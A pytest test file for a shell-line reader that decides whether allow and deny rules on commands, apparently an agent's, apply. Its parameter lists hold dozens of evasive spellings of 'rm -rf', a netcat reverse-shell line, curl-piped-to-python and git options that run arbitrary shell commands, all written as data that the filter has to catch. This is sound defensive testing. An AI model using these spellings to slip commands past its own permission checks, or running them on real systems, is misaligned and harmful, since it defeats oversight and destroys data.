"""The shell reader understands a line or refuses it (issue 58).

* the 27 spellings a hostile round found running ``rm -r -f`` past the reader,
  each pinned: a ``deny_command`` rule on ``rm -r -f`` denies it or is undecided
  (``tests/test_shell_bash.py`` checks that bash really runs ``rm -r -f`` in each);
* the positive list: what is understood is allowed, and each construct bash
  expands at run time in a way the reader does not evaluate is undecided for
  every rule (its program is None);
* the bound is a step count: a line past it is refused, the same way every time;
* what an allow list needs: each command's ``argv`` and :func:`matches_prefix`;
* the package split keeps ``car_verify.rules.shell_words``'s names.
"""

from __future__ import annotations

import contextlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from shell_lines import FOUND_BY_BASH, REVIEW_ROUND_2, REVIEW_ROUND_4, TWENTY_SEVEN
from shell_oracle import rm_recursive_force

from car_verify.rules import shell, shell_words
from car_verify.rules.shell import (
    Command,
    Reading,
    ShellError,
    has_flags,
    matches_prefix,
    read_commands,
    read_plain,
)
from car_verify.rules.shell.model import Budget


def verdict(line: str) -> str:
    """What a ``deny_command`` rule on ``rm`` with ``-r`` and ``-f`` answers."""
    try:
        reading = read_commands(line)
    except ShellError:
        return "deny"
    if any(c.program == "rm" and has_flags(c, ("-r", "-f")) for c in reading.commands):
        return "deny"
    if any(u.program in (None, "rm") for u in reading.undecided):
        return "undecided"
    return "allow"


def test_the_issue_has_27_lines() -> None:
    assert len(TWENTY_SEVEN) == len(set(TWENTY_SEVEN)) == 27


@pytest.mark.parametrize("line", TWENTY_SEVEN)
def test_each_of_the_27_lines_is_denied_or_undecided(line: str) -> None:
    assert verdict(line) in ("deny", "undecided")


@pytest.mark.parametrize("line", FOUND_BY_BASH)
def test_each_line_the_bash_property_found_is_denied_or_undecided(line: str) -> None:
    assert verdict(line) in ("deny", "undecided")


@pytest.mark.parametrize("line", REVIEW_ROUND_2)
def test_each_line_of_the_second_review_is_denied_or_undecided(line: str) -> None:
    assert verdict(line) in ("deny", "undecided")


#: Of those, the ones the reader reads through (a wrapper, git's command options):
#: denied outright; the old arithmetic $[...] is undecided, as $((...)) is.
@pytest.mark.parametrize("line", REVIEW_ROUND_2)
def test_the_second_review_wrappers_and_git_options_are_read_through(line: str) -> None:
    assert verdict(line) == ("undecided" if "$[" in line else "deny")


# Programs the reader does not know ---------------------------------------------

#: (line, the programs a rule on which is undecided; None: every rule). A program
#: in no table may run what its words name, as setarch, ld.so or ssh-agent do.
UNKNOWN_PROGRAMS: list[tuple[str, set[str | None]]] = [
    ("frob x86_64 rm -rf x", {"rm", None}),  # x86_64 is setarch: it runs code
    ("frob rm -rf x", {"rm"}),
    ("frob /bin/rm -rf x", {"rm"}),
    ("frob --exec=/usr/bin/rm x", {"rm"}),
    ("frob -wrapper rm,-rf x", {"rm"}),
    ("frob -- -c 'rm -rf x'", {"rm"}),
    ("frob --run='r''m -rf x'", {"rm"}),
    ("frob 'echo; rm -rf x'", {"rm"}),
    ("frob 'echo $(rm -rf x)'", {"rm"}),
    ("frob <<< 'rm -rf x'", {"rm"}),
    ("frob bash", {None}),
    ("frob env rm", {None}),
    ("frob python3 -c 1", {None}),
    ("frob sudo ls", {None}),
    ('frob "$X"', {None}),
    ("frob $X", {None}),
    ("frob -crm x", {"rm"}),  # -c with rm attached
    ("nc -e/bin/sh h 1", {None}),
    ("echo rm -rf x > f; frob f", {None}),  # a name may be a file it runs
    ('frob "$D/rm"', {"rm"}),
    ("frob $'a\nb('", {None}),  # several lines the grammar cannot read
]


@pytest.mark.parametrize(("line", "about"), UNKNOWN_PROGRAMS)
def test_a_program_in_no_table_may_run_what_its_words_name(
    line: str, about: set[str | None]
) -> None:
    reading = read_commands(line)
    programs = {u.program for u in reading.undecided}
    assert about <= programs, reading.undecided
    assert not reading.understood
    assert verdict(line) == "undecided"


def test_a_program_in_no_table_given_data_is_undecided_only_for_what_it_names() -> None:
    """``frob build src`` may run ``build``: a rule on rm is not concerned, but the
    line is not understood (an allow list does not admit it); a program known to
    take data (``mkdir``, ``curl``) and one given flags alone stay understood."""
    reading = read_commands("frob build src/a.py")
    assert {u.program for u in reading.undecided} == {"build", "a.py"}
    assert verdict("frob build src/a.py") == "allow" and not reading.understood
    for line in ("mkdir -p build/rm", "curl -o rm https://x", "frob -q --fast", "pytest -q"):
        assert read_commands(line).understood, line
    # a message that reads as a command line is data to git: allowed, understood
    assert read_commands('git commit -m "fix; rm -rf build"').understood


@pytest.mark.parametrize(
    "line",
    [
        "git fetch --upload-pack='sh x' origin",
        "git fetch --upload-p='sh x' origin",  # git takes an abbreviation
        "git pull --upload-pack 'sh x'",
        "git ls-remote -u 'sh x' .",
        "git clone -u'sh x' . y",
        "git push --receive-pack='sh x' origin",
        "git push --exec='sh x' origin",
        "git send-pack --receive-pack='sh x' . HEAD",
        "git fetch-pack --exec='sh x' . HEAD",
        "git archive --remote=. --exec='sh x' HEAD",
        "git clone -c core.sshCommand='sh x' ssh://h/r",
        "git clone --config=core.sshCommand=x ssh://h/r",
        "git -c core.sshCommand='sh x' fetch",
        "git --config-env=core.pager=P log",
        "GIT_SSH_COMMAND='sh x' git fetch",
        "GIT_EXTERNAL_DIFF=x git diff",
        "env GIT_SSH='x' git fetch",
        "git fetch ext::sh",
        'git fetch "$OPTION" origin',  # a computed word may be --upload-pack=...
        "git daemon --access-hook=x",
    ],
)
def test_git_given_a_command_to_run_is_not_understood(line: str) -> None:
    """Options that name a program git runs with a shell: undecided for every rule
    (and a literal command read as a line), so an allow list of ``git fetch``,
    ``git ls-remote`` ... does not admit them."""
    reading = read_commands(line)
    assert None in {u.program for u in reading.undecided}, reading.undecided
    assert not reading.understood


@pytest.mark.parametrize(
    "line",
    [
        "git fetch origin",
        "git fetch -u origin",
        "git clone -c user.name=a https://x/r",
        "git ls-remote",
    ],
)
def test_git_transport_without_a_command_stays_understood(line: str) -> None:
    assert read_commands(line).understood, read_commands(line).undecided


def test_git_that_writes_nothing_still_runs_its_configuration() -> None:
    """``git status`` runs ``core.fsmonitor``, ``git log`` ``core.pager``: a line
    that may write a file and then runs one of them is undecided, as for any
    program that runs a file; another git subcommand's write is no configuration."""
    for line in (
        "printf '[core]\\n\\tfsmonitor = sh x\\n' >> .git/config; git status",
        "cp evil .git/config && git log",
    ):
        assert None in {u.program for u in read_commands(line).undecided}, line
    for line in ("git commit -m x && git log --oneline | head", "git log && git commit -m x"):
        assert read_commands(line).understood, line


def test_a_pager_given_a_command_is_undecided() -> None:
    assert None in {u.program for u in read_commands("less '+!sh x' f").undecided}
    assert read_commands("git diff | less").understood


#: bash's old arithmetic $[...] is evaluated like $((...)): its subscripts run code.
@pytest.mark.parametrize(
    "line",
    [
        "echo $[x]",
        'echo "$[x]"',
        "y=$[x]",
        "declare y=$[x]",
        "export y=$[x]",
        "echo >$[x]",
        "cat <<< $[x]",
        "for i in $[x]; do :; done",
        "case $[x] in a) ;; esac",
        "[[ $[x] == 1 ]]",
        "echo a$[x]b",
        "echo ${y:-$[x]}",
    ],
)
def test_old_style_arithmetic_is_undecided_in_every_context(line: str) -> None:
    reading = read_commands(line)
    assert None in {u.program for u in reading.undecided}, (line, reading.undecided)


def test_old_style_arithmetic_on_numbers_is_read() -> None:
    assert [u for u in read_commands("echo $[1 + 2]").undecided if u.program is None] == []


#: The first nine of the 27, which the reader now reads as bash does: denied, not only
#: undecided.
@pytest.mark.parametrize("line", TWENTY_SEVEN[:9])
def test_the_spellings_the_reader_evaluates_are_denied(line: str) -> None:
    assert verdict(line) == "deny"


#: (line, what it is undecided about): each is a construct bash evaluates at run
#: time that the reader does not, so a rule on any program is undecided.
UNDECIDED: list[tuple[str, str]] = [
    ("(( x + 1 ))", "arithmetic"),
    ("echo $((x))", "arithmetic"),
    ("let x=1", "builtin"),
    ("for ((i = 0; i < 3; i++)); do :; done", "arithmetic"),
    ("echo ${a[i]}", "subscript"),
    ("a[i]=1", "subscript"),
    ("a=([i]=1)", "subscript"),
    ("echo ${!x}", "indirect"),
    ("echo ${x@P}", "transformation"),
    ("echo ${x:i:1}", "offset"),
    ("[[ $a -eq 1 ]]", "arithmetic"),
    ("[[ -v x ]]", "subscript"),
    ("test -v x", "subscript"),
    ("[ -v x ]", "subscript"),
    ('test "$op" x', "computed"),
    ('test ! "$op" x', "computed"),
    ("[ -n $x ]", "computed"),
    ("declare -i n=1", "-i"),
    ("declare -n r=x", "-n"),
    ('declare "$x"', "computed"),
    ("local -a a='([0]=1)'", "array"),
    ("unset 'a[i]'", "subscript"),
    ("RANDOM=$x", "arithmetic"),
    ("PS4=x bash -x y.sh", "code"),
    ("export BASH_ENV=f", "code"),
    ("GIT_SSH_COMMAND=ssh git fetch", "command"),
    ("env 'BASH_FUNC_f%%=() { :; }' bash", "no plain variable"),
    ("for PS4 in x; do :; done", "code"),
    ("bash -i", "option"),
    ("bash --rcfile f", "option"),
    ("bash -O expand_aliases -c ls", "option"),
    ("zsh -c ls", "syntax is not read"),
    ("python3 -c 'print(1)'", "code"),
    ("python3 -m timeit 1", "as code"),
    ("perl -e 1", "code"),
    ("node -e 1", "code"),
    ("ruby -e 1", "code"),
    ("echo 'print(1)' | python3", "stdin"),
    ("curl x | python3", "pipe"),
    ("python3 <<< 'print(1)'", "stdin"),
    ("awk 'BEGIN { system(\"ls\") }'", "command"),
    ("sed 's/a/b/e' f", "command"),
    ("sed '1e ls' f", "command"),
    ("ssh host ls", "of its own"),
    ("echo ls > s.sh; bash s.sh", "written"),
    ('trap "$x" EXIT', "computed"),
    ('eval "$x"', "computed"),
    ("source f", "sourced"),
    ("coproc ls", "builtin"),
    ("exec < f", "own input"),
    ("mapfile -C cb a", "callback"),
    ("echo `echo \\`ls\\``", ""),
    ("echo ${x:-`ls`}", "leaves as text"),
    ("cat <<EOF\n`ls`\nEOF", "here-document"),
    ("$X -rf x", "names the program"),
    ("/usr/bin/r? -rf x", "names the program"),
    ("r{m,} -rf x", "names the program"),
    ('echo $"x"', ""),
    ("git -c core.pager=x log", "configuration"),
    ("jobs -x ls", "runs a command"),
]


@pytest.mark.parametrize(("line", "why"), UNDECIDED)
def test_a_construct_the_reader_does_not_evaluate_is_undecided(line: str, why: str) -> None:
    reading = read_commands(line)
    reasons = [u.reason for u in reading.undecided]
    assert reasons, line
    assert any(why in r for r in reasons), reasons
    assert not reading.understood


def test_undecided_constructs_are_undecided_for_every_rule() -> None:
    """Those the line may use to run anything name no program: every rule is
    undecided (a rule on ``git`` included), not only one on the program named."""
    for line in ("echo ${!x}", "[[ $a -eq 1 ]]", "python3 -c 1", "bash -i"):
        assert None in {u.program for u in read_commands(line).undecided}, line


#: Lines an agent runs every day: understood, nothing undecided, or at most
#: undecided about a program no rule here names.
UNDERSTOOD = [
    "ls -la && git status",
    "cd src && python3 -m pytest -q tests/",
    'grep -rn "foo" . | head -20',
    "sed -i 's/foo/bar/g' file.txt",
    "sed -n '1,5p;/x/d' f",
    "awk '{print $1}' file | sort | uniq -c",
    'for f in a b; do echo "$f"; done',
    "if [ -f x ]; then cat x; fi",
    '[[ -n "$HOME" && -d /tmp ]]',
    '[ "$a" = "$b" ]',
    'echo "${HOME:-/tmp}" ${#x} ${x%.py} ${x//a/b}',
    'export PATH="$HOME/bin:$PATH"',
    "python3 script.py --flag",
    "node index.js",
    "npm test",
    "make -j4",
    'git commit -m "msg" && git log --oneline | head',
    "cat <<'EOF' > notes.txt\nhello $x\nEOF",
    "x=$(git rev-parse HEAD); echo $x",
    "set -euo pipefail; ls",
    "echo $((1 + 2)); (( 3 > 2 ))",
    "printf '%s\\n' a b",
    'while read -r l; do echo "$l"; done < f',
    "tar czf out.tgz dir",
    "sh -c 'ls -la'",
    "bash script.sh",
    "timeout 60 pytest -x",
    "env -i PATH=/usr/bin ls",
    "git -c user.name=me commit -m x",
    "shopt -s nullglob; ls *.py",
    "trap 'echo bye' EXIT",
    "f() { echo hi; }; f",
    'while getopts ab opt; do echo "$opt"; done',
    "eval -- 'ls -la'",
]


#: Lines the grammar cannot read as bash does: refused (every rule denies).
REFUSED = [
    "{rm,-rf,x}",
    "bash <<'E'\n\\rm -rf x\nE",  # the grammar takes the body's first line as words
    "sh <<E; rm -rf x\nE",
    "echo $'a\x00' \0",
    "echo a\0b".replace("\\0", "\0"),
    "cat <<EOF\nabc\\\nEOF\nEOF",  # bash joins the lines before it looks for EOF
]


@pytest.mark.parametrize("line", REFUSED)
def test_a_line_the_grammar_misreads_is_refused(line: str) -> None:
    with pytest.raises(ShellError):
        read_commands(line)


@pytest.mark.parametrize("line", UNDERSTOOD)
def test_an_everyday_line_is_allowed(line: str) -> None:
    reading = read_commands(line)
    assert [u for u in reading.undecided if u.program is None] == [], reading.undecided
    assert verdict(line) == "allow"


def test_a_line_of_literal_words_is_understood_with_its_argv() -> None:
    reading = read_commands("cd /tmp && npm run test -- --watch | tee log")
    assert reading.understood
    assert [c.argv for c in reading.commands] == [
        ("cd", "/tmp"),
        ("npm", "run", "test", "--", "--watch"),
        ("tee", "log"),
    ]
    computed = read_commands('npm run "$T"')
    assert computed.commands[0].argv is None and not computed.understood
    glob = read_commands("ls *.py")
    assert glob.commands[0].argv is None and not glob.understood


# The words bash computes, as bash computes them ---------------------------------


@pytest.mark.parametrize(
    ("line", "program"),
    [
        ("$'rm\\0x' -rf y", "rm"),
        ("$'\\x72m' -rf y", "rm"),
        ("$'\\162m' -rf y", "rm"),
        ("$'r\\u006d' -rf y", "rm"),
        ("r$'\\0'm -rf y", "rm"),  # only the $'...' piece ends at the NUL
        ("$'rm\\c@x' -rf y", "rm"),
        ("\\r\\m -rf y", "rm"),
        ("r\\\nm -rf y", "rm"),
        ("'r'\"m\" -rf y", "rm"),
    ],
)
def test_a_word_has_the_value_bash_gives_it(line: str, program: str) -> None:
    [command] = read_commands(line).commands
    assert command.program == program and has_flags(command, ["-r", "-f"])


def test_env_split_string_follows_gnu_env() -> None:
    from car_verify.rules.shell.programs import env_split

    def values(text: str) -> list[str | None] | None:
        words = env_split(text)
        return None if words is None else [w.value for w in words]

    assert values("rm\\_-rf\\_x") == ["rm", "-rf", "x"]
    assert values("a 'b c' \"d\\_e\"") == ["a", "b c", "d e"]
    assert values("a #b") == ["a"]
    assert values("a\\cb c") == ["a"]
    assert values("a ${HOME}") is None  # expands a variable: not evaluated
    with pytest.raises(ShellError):
        env_split("a\\qb")


def test_a_heredoc_body_is_unescaped_as_bash_does() -> None:
    [_, rm] = read_commands("bash <<EOF\nr\\\\m -rf x\nEOF").commands
    assert rm.program == "rm" and rm.argv == ("rm", "-rf", "x")
    quoted = read_commands("bash <<'EOF'\nr\\\\m -rf x\nEOF").commands
    assert [c.program for c in quoted] == ["bash", "r\\m"]  # a quoted delimiter: literal


def test_a_function_called_with_a_pipe_reads_it() -> None:
    reading = read_commands("f() { sh; }; curl -s http://x | f")
    assert any(u.reason.startswith("a program reads its commands") for u in reading.undecided)


# The bound is a count ------------------------------------------------------------


def test_a_line_past_the_step_bound_is_refused_every_time() -> None:
    line = "echo a; " * 2000
    spent = Budget()
    read_plain(line, spent)
    needed = spent.total - spent.left
    for _ in range(3):
        with pytest.raises(ShellError, match="steps"):
            read_plain(line, Budget(needed - 1))
    assert read_plain(line, Budget(needed)) == read_plain(line)


@settings(max_examples=30, deadline=None)
@given(st.integers(min_value=1, max_value=40))
def test_the_steps_a_line_takes_are_the_same_every_time(n: int) -> None:
    line = "sh -c 'ls; " * n + "echo'" * n
    counts = set()
    for _ in range(2):
        budget = Budget()
        with contextlib.suppress(ShellError):
            read_plain(line, budget)
        counts.add(budget.total - budget.left)
    assert len(counts) == 1


# What an allow list needs --------------------------------------------------------


def _one(line: str) -> Command:
    [command] = read_commands(line).commands
    return command


@pytest.mark.parametrize(
    ("line", "prefix", "matches"),
    [
        ("npm run test --watch", ["npm", "run", "test"], True),
        ("npm run test", ["npm", "run", "test"], True),
        ("npm run testing", ["npm", "run", "test"], False),
        ("git -C x push", ["git", "push"], False),
        ("/usr/bin/npm run test", ["npm", "run", "test"], True),
        ("./run.sh a", ["./run.sh"], True),
        ("./run.sh a", ["run.sh"], True),
        ("other/run.sh a", ["./run.sh"], False),
        ('npm run "$T"', ["npm"], False),  # a computed word: no prefix matches
        ("npm run test", [], False),
        ("npm", ["npm", "run"], False),
        ("git push", ["git", "push", "origin"], False),
    ],
)
def test_matches_prefix(line: str, prefix: list[str], matches: bool) -> None:
    assert matches_prefix(_one(line), prefix) is matches


def test_an_allow_list_built_on_the_reading_allows_only_what_it_lists() -> None:
    """The shape of ``allow_command``: a line is allowed when it is understood and
    every command it runs matches an allowed prefix."""
    allowed = [["git", "status"], ["ls"], ["npm", "run", "test"]]

    def allows(line: str) -> bool:
        try:
            reading: Reading = read_commands(line)
        except ShellError:
            return False
        return reading.understood and all(
            any(matches_prefix(c, p) for p in allowed) for c in reading.commands
        )

    assert allows("git status && ls -la | npm run test")
    assert not allows("git status; rm -rf x")
    assert not allows("ls $(rm -rf x)")
    assert not allows("sh -c 'ls'")  # sh is not on the list
    assert not allows("ls ${!x}")
    assert not allows('ls "$X"')
    # an option that names a program git runs makes the line not understood
    assert allows("git status")
    git = [["git", "fetch"], ["git", "ls-remote"], ["echo"]]
    allowed[:] = git
    assert allows("git fetch origin && git ls-remote origin")
    assert not allows("git fetch --upload-pack='rm -rf v;git-upload-pack' .")
    assert not allows("git ls-remote --upload-pack='rm -r -f v; git-upload-pack' .")
    assert not allows("x='a[$(rm -rf v)]'; echo $[x]")


# The package ---------------------------------------------------------------------


def test_shell_words_keeps_its_public_names() -> None:
    for name in (
        "FLAG_ALIASES",
        "MAX_LINE",
        "MAX_NESTING",
        "SHELLS",
        "WRAPPERS",
        "Command",
        "Reading",
        "ShellError",
        "Undecided",
        "commands",
        "has_flags",
        "read_commands",
        "read_plain",
    ):
        assert getattr(shell_words, name) is getattr(shell, name), name


@pytest.mark.parametrize("line", REVIEW_ROUND_4)
def test_each_line_of_the_fourth_review_is_denied_or_undecided(line: str) -> None:
    """The fourth hostile review's lines (tests/test_shell_bash.py runs them in bash)."""
    assert verdict(line) in ("deny", "undecided")


@pytest.mark.parametrize(
    "line",
    [
        "sort --check x",
        "sort --compress-program x",  # no: --compress-program takes the next word
        "tar --totals -cf x.tar y",
        "split --lines=10 x",
        "git rebase --root --empty=drop",
        "git grep --or -e x",
        "git config --get user.name",
        "git difftool --no-prompt HEAD",
        "git bisect run rm -rf v",  # a subcommand's word, not an option: as it is
        "git submodule foreach 'rm -rf v'",
        "fd -e py -x wc -l",
        "fd -xrm -rf",  # fd's -x with its command attached: not read
        "fd --exec=rm x",
    ],
)
def test_an_abbreviated_option_is_read_as_what_it_may_abbreviate(line: str) -> None:
    """A long option by a prefix of its name is the option (GNU getopt, git);
    an option that is no prefix of one that runs a command stays data."""
    allowed = ("sort --check", "tar", "split", "git", "fd -e")
    expected = "allow" if line.startswith(allowed) and "rm -rf" not in line else "undecided"
    assert verdict(line) == expected


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("echo x | sed -ne 'e rm -rf v' -e p", "undecided"),  # every -e script is read
        ("echo x | sed -Ee 's/x/rm -rf v/e' -e p", "undecided"),  # -Ee: the next word
        ("echo x | sed -nes/x/y/e", "undecided"),  # -e's script attached in a cluster
        ("sed -ne '/x/p' -e '/y/p' f", "allow"),
        ("sed -i 's/a/b/' f", "allow"),
        ("sed -ie 's/a/b/' f", "allow"),  # -i takes e as its suffix: the script is a word
        ("sed -l 80 -n l f", "allow"),
        ("sed --sandbox -e 'e ls' f", "allow"),  # sed refuses e commands
        ("sed --s -e 'e ls' f", "undecided"),  # --silent or --separate, not --sandbox
        ("make -sE'$(shell rm -rf v)'", "undecided"),  # -E inside a cluster
        ("printf 'all:\\n\\trm -rf v\\n' | make -f/dev/stdin", "undecided"),
        ("make -sj4 -C sub -f Makefile.ci test", "allow"),
        ("make --file=Makefile.ci CC=gcc", "allow"),
        ("make -Z", "undecided"),  # no such option: its arity is not known
    ],
)
def test_a_value_attached_in_a_cluster_is_read_as_getopt_reads_it(line: str, expected: str) -> None:
    assert verdict(line) == expected


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("printf 'rm -rf v\\n' | rbash", "deny"),  # printf's output read by the shell
        ("printf 'rm -rf v\\n' | unlisted-tool", "undecided"),  # its stdin reads as a line
        ("printf '%s\\n' 'rm -rf v' | bash", "undecided"),  # a conversion: not evaluated
        ("printf 'ls\\t-l\\n' | sh", "allow"),
        ("yes 'rm -rf v' | head -n 1 | rbash", "undecided"),  # a pipe: not known
        ("rbash -c 'rm -rf v'", "deny"),
        ("rbash <<< 'rm -rf v'", "deny"),
        ("bash5.2 -c 'rm -rf v'", "deny"),
        ("echo 'rm -rf v' | dash.static", "deny"),
        ("zsh-5.9 -c 'ls'", "undecided"),  # a shell whose syntax is not read
        ("echo ls | unlistedsh", "undecided"),  # a name on no list ending in sh
        ("unlistedsh rm v", "undecided"),  # and its words may name what it runs
        ("vim.basic -es -c 'call system(\"rm -rf v\")' -c q", "undecided"),
        ("vimdiff a b", "undecided"),  # an editor given more than one file
        ("gvim -c q", "undecided"),
        ("vim.tiny notes.txt", "allow"),
        ("unlisted-tool -e 'call system(\"rm -rf v\")'", "undecided"),  # not bash: any code
        ("unlisted-tool --name=value file.txt", "allow"),
    ],
)
def test_a_name_variant_is_read_as_its_program(line: str, expected: str) -> None:
    """A program's other names (vim's family, restricted or versioned shells) are
    read as the program; text a program on no list is given that bash cannot read
    may be code of its own language: undecided."""
    assert verdict(line) == expected


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("echo 'rm -rf v' | chroot --skip-chdir /", "deny"),  # no command: $SHELL -i
        ("chroot / <<< 'rm -rf v'", "deny"),
        ("echo 'rm -rf v' | sudo --shell", "deny"),
        ("echo 'rm -rf v' | sudo --login", "deny"),
        ("echo 'rm -rf v' | sudo -i", "deny"),
        ("chroot / ls", "allow"),
        ("chroot --help", "allow"),
    ],
)
def test_a_wrapper_given_no_command_runs_a_shell_on_its_stdin(line: str, expected: str) -> None:
    assert verdict(line) == expected


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("rm -r --interactive=never v", "deny"),  # --interactive=never is -f
        ("rm -r --interactive=n v", "deny"),  # argmatch: n is never, no or none
        ("rm -R --inter=none v", "deny"),
        ("rm --rec --for v", "deny"),
        ("rm -r --interactive=always v", "allow"),
        ("rm -r --interactive v", "allow"),
        ("rm -r -- --interactive=never", "allow"),  # a file's name
    ],
)
def test_a_flag_spelled_by_an_option_value_is_the_flag(line: str, expected: str) -> None:
    assert verdict(line) == expected


def test_the_oracle_and_the_reader_agree_on_rm_synonyms() -> None:
    assert rm_recursive_force(("rm", "-r", "--interactive=never", "v"))
    assert rm_recursive_force(("rm", "-R", "--inter=n", "v"))
    assert not rm_recursive_force(("rm", "-r", "--interactive=always", "v"))


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("echo 'e rm -rf v' | sed -f /dev/stdin f", "undecided"),  # a script on stdin
        ("sed -f - f", "undecided"),
        ("sed --file=script.sed f", "allow"),
        ("unlisted-tool -c ':!rm -rf v'", "undecided"),  # rm named in another language
        ("unlisted-tool -c ':!ls'", "allow"),  # undecided for ls only
        ("./build.sh --release", "allow"),  # a script by its path: not a shell's name
        ('unlisted-tool --item \'{"id": {"S": "1"}}\'', "allow"),  # JSON: data
        ('echo \'{"event": "x"}\' | unlisted-tool', "allow"),
        ('echo \'system("r" "m -rf v")\' | unlisted-tool', "undecided"),  # code
    ],
)
def test_code_another_program_reads_is_read_for_what_it_may_run(line: str, expected: str) -> None:
    assert verdict(line) == expected
